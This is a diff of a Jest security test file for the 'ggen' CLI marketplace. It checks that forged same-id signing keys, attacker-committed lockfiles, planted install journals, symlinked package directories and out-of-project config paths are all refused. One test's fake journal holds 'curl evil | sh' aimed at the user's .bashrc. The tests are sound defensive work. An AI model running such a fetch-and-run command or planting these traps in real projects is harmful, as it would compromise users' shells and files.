@@ -1,6 +1,6 @@
 // Trust, second round (issue 27): a key is its whole public key, never its 8-byte id, and a
 // lockfile never grants trust. Each attack runs through the CLI as an attacker would set it up.
-import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from '@jest/globals';
@@ -37,7 +37,9 @@ describe('a key is its whole public key (findings 1, 3)', () => {
     const user = freshHome();
     const env = { GGEN_MARKETPLACE_TRUSTED_KEYS: alice.publicKey };
     const flagged = await runGgen(['marketplace', 'install', 'evil-pack', '--registry', registry, '--backend', 'v2', '--verify-signature'], { home: user, env });
-    expect(flagged.stderr).toMatch(/^error GGEN_E_SIGNATURE_UNTRUSTED: evil-pack@1\.0\.0 is signed by key [0-9A-F]{16}, which is not an owner of evil-pack|^error GGEN_E_SIGNATURE_UNTRUSTED: /m);
+    expect(flagged.stderr).toMatch(
+      /^error GGEN_E_SIGNATURE_UNTRUSTED: evil-pack@1\.0\.0 is signed by key [0-9A-F]{16}, which is not an owner of evil-pack|^error GGEN_E_SIGNATURE_UNTRUSTED: /m,
+    );
     expect(flagged.code).toBe(6);
     mkdirSync(join(user, '.config', 'ggen'), { recursive: true });
     writeFileSync(join(user, '.config', 'ggen', 'config.yaml'), `marketplace:\n  require_signatures: true\n  trusted_keys: ['${alice.publicKey}']\n`);
@@ -69,13 +71,15 @@ describe('a key is its whole public key (findings 1, 3)', () => {
     const mallory = forgeKeyWithIdOf(alice.publicKey, join(home, 'mallory.key'));
     expect((await publish(home, registry, mallory.secretKeyPath, 'pinned', '1.1.0')).code).toBe(0);
     const update = await runGgen(['marketplace', 'update', '--registry', registry, '--backend', 'v2', '--verify-signature'], { home: user, env });
-    expect(update.stderr).toMatch(/^error GGEN_E_OWNER_CHAIN_INVALID: The owner keys of pinned cannot be trusted: it was installed owned by [0-9A-F]{16}, and its key statements now start from other keys/m);
+    expect(update.stderr).toMatch(
+      /^error GGEN_E_OWNER_CHAIN_INVALID: The owner keys of pinned cannot be trusted: it was installed owned by [0-9A-F]{16}, and its key statements now start from other keys/m,
+    );
     expect(update.code).toBe(6);
     expect(readFileSync(join(user, '.ggen', 'ggen.lock'), 'utf8')).toBe(lockBefore);
     expect(readFileSync(join(user, '.ggen', 'packages', 'pinned', 'templates', 'hello.tmpl'), 'utf8')).toBe('hello from pinned 1.0.0\n');
   });
 
-  it("refuses a same-id key as the owner in the registry: publish, yank, dist-tag and deprecate", async () => {
+  it('refuses a same-id key as the owner in the registry: publish, yank, dist-tag and deprecate', async () => {
     const home = freshHome();
     const alice = await keygen(home, 'alice');
     const registry = copyOfSampleRegistry();
@@ -109,17 +113,20 @@ describe('a key is its whole public key (findings 1, 3)', () => {
 });
 
 describe('a lockfile never grants trust (finding 6)', () => {
-  it("installs nothing signed by a key that only a committed lockfile names as the owner", async () => {
+  it('installs nothing signed by a key that only a committed lockfile names as the owner', async () => {
     const attackerHome = freshHome();
     const mallory = await keygen(attackerHome, 'mallory');
     const registry = copyOfSampleRegistry();
     expect((await publish(attackerHome, registry, mallory.path, 'evil-pack', '1.0.0')).code).toBe(0);
     // The attacker installs it trusting their own key, and commits the lockfile that records them as owner.
     const project = mkdtempSync(join(tmpdir(), 'ggen-project-'));
-    const attackerInstall = await runGgen(['marketplace', 'install', 'evil-pack', '--registry', registry, '--backend', 'v2', '--target', join(project, 'gpacks'), '--verify-signature'], {
-      home: attackerHome,
-      env: { GGEN_MARKETPLACE_TRUSTED_KEYS: mallory.publicKey },
-    });
+    const attackerInstall = await runGgen(
+      ['marketplace', 'install', 'evil-pack', '--registry', registry, '--backend', 'v2', '--target', join(project, 'gpacks'), '--verify-signature'],
+      {
+        home: attackerHome,
+        env: { GGEN_MARKETPLACE_TRUSTED_KEYS: mallory.publicKey },
+      },
+    );
     expect(attackerInstall.code).toBe(0);
     expect(JSON.parse(readFileSync(join(project, 'ggen.lock'), 'utf8')).packages['evil-pack'].signature.owners).toEqual([mallory.publicKey]);
     rmSync(join(project, 'gpacks'), { recursive: true });
@@ -134,5 +141,79 @@ describe('a lockfile never grants trust (finding 6)', () => {
       expect(run.code).toBe(6);
       expect(existsSync(join(project, 'gpacks', 'evil-pack'))).toBe(false);
     }
+  });
+});
+
+describe('files in a project are data from a stranger (findings 2, 4, 5, 16)', () => {
+  it('refuses a planted install journal in every command that recovers, and writes nothing it names', async () => {
+    const home = freshHome();
+    const bashrc = join(home, '.bashrc');
+    writeFileSync(bashrc, '# mine\n');
+    const project = mkdtempSync(join(tmpdir(), 'ggen-cloned-'));
+    const keep = join(project, 'keep.txt');
+    writeFileSync(keep, 'keep me');
+    mkdirSync(join(project, 'gpacks', '.ggen-txn', 'new'), { recursive: true });
+    const journal = { version: 1, lockfile: bashrc, lockfileContent: 'curl evil | sh\n', install: [], remove: [] };
+    writeFileSync(join(project, 'gpacks', '.ggen-txn', 'journal.json'), JSON.stringify(journal));
+    for (const args of [['list'], ['install', 'agent-editor'], ['update'], ['remove', 'agent-editor']]) {
+      const run = await runGgen(['marketplace', ...args, '--target', './gpacks'], { home, cwd: project });
+      expect(run.stderr).toMatch(/^error GGEN_E_FOREIGN_FILE: .*journal\.json is an install journal that this ggen did not write; refusing to follow it$/m);
+      expect(run.code).toBe(10);
+    }
+    expect(readFileSync(bashrc, 'utf8')).toBe('# mine\n');
+    expect(readFileSync(keep, 'utf8')).toBe('keep me');
+    expect(existsSync(join(project, 'gpacks', 'agent-editor'))).toBe(false);
+  });
+
+  it('never prunes through a linked packages directory, nor a directory whose files ggen did not install', async () => {
+    const home = freshHome();
+    const parent = mkdtempSync(join(tmpdir(), 'ggen-parent-'));
+    const work = join(parent, 'work');
+    mkdirSync(work);
+    writeFileSync(join(work, 'thesis.tex'), 'years of work');
+    const project = join(parent, 'project');
+    mkdirSync(project);
+    const locked = { version: '1.0.0', resolved: 'v2:archives/work-1.0.0.tgz', integrity: 'sha512-AAAA', dependencies: {}, backend: 'v2', contentHash: 'sha256-0000' };
+    writeFileSync(join(project, 'ggen.lock'), JSON.stringify({ lockfileVersion: 1, requested: {}, packages: { work: locked } }));
+    // A committed link: gpacks -> .. (the project's parent, where the user's work is).
+    symlinkSync('..', join(project, 'gpacks'));
+    const linked = await runGgen(['marketplace', 'install', 'agent-editor', '--target', './gpacks'], { home, cwd: project });
+    expect(linked.stderr).toMatch(/^error GGEN_E_UNSAFE_PERMISSIONS: .*gpacks is a symbolic link; ggen installs into and removes from real directories only$/m);
+    expect(linked.code).toBe(10);
+    expect(readFileSync(join(work, 'thesis.tex'), 'utf8')).toBe('years of work');
+
+    // A real packages directory holding a directory of the locked name that ggen never wrote: kept, and said.
+    rmSync(join(project, 'gpacks'));
+    mkdirSync(join(project, 'gpacks', 'work'), { recursive: true });
+    writeFileSync(join(project, 'gpacks', 'work', 'notes.md'), 'mine');
+    const pruned = await runGgen(['marketplace', 'install', 'agent-editor', '--target', './gpacks'], { home, cwd: project });
+    expect(pruned.stderr).toContain(`kept ${join(project, 'gpacks', 'work')}: its files are not what ggen installed for work`);
+    expect(pruned.code).toBe(0);
+    expect(readFileSync(join(project, 'gpacks', 'work', 'notes.md'), 'utf8')).toBe('mine');
+    expect(JSON.parse(readFileSync(join(project, 'ggen.lock'), 'utf8')).packages.work).toBeUndefined();
+    expect(readFileSync(join(work, 'thesis.tex'), 'utf8')).toBe('years of work');
+  });
+
+  it('ignores a project ggen.yaml that moves state, telemetry or the packages directory out of the project', async () => {
+    const home = freshHome();
+    const project = mkdtempSync(join(tmpdir(), 'ggen-cloned-'));
+    const yaml = join(project, 'ggen.yaml');
+    writeFileSync(yaml, 'marketplace:\n  state_dir: ./state\n  packages_dir: ..\n  pushgateway_url: http://127.0.0.1:9/\n  lockfile: ./ggen.lock\n');
+    const run = await runGgen(['marketplace', 'config', 'show'], { home, cwd: project });
+    expect(run.code).toBe(0);
+    expect(run.stderr).toContain(`note: ${yaml} sets state_dir; ignored, only your own config or the environment may set it`);
+    expect(run.stderr).toContain(`note: ${yaml} sets pushgateway_url; ignored, only your own config or the environment may set it`);
+    expect(run.stderr).toContain(`note: ${yaml} sets packages_dir: ${join(project, '..')}; ignored, a project file may only name a location inside its project (${project})`);
+    const shown = (JSON.parse((await runGgen(['marketplace', 'config', 'show', '--json'], { home, cwd: project })).stdout) as { values: Record<string, { value: unknown }> })
+      .values;
+    expect(shown.state_dir?.value).toBe(join(home, '.ggen'));
+    expect(shown.packages_dir?.value).toBe(join(home, '.ggen', 'packages'));
+    expect(shown.pushgateway_url).toBeUndefined();
+    expect(shown.lockfile?.value).toBe(join(project, 'ggen.lock'));
+    // A link inside the project that leads out of it is outside too.
+    symlinkSync(home, join(project, 'out'));
+    writeFileSync(yaml, 'marketplace:\n  cache_dir: ./out/cache\n');
+    const linked = await runGgen(['marketplace', 'config', 'show'], { home, cwd: project });
+    expect(linked.stderr).toContain(`note: ${yaml} sets cache_dir: ${join(project, 'out', 'cache')}; ignored, a project file may only name a location inside its project`);
   });
 });
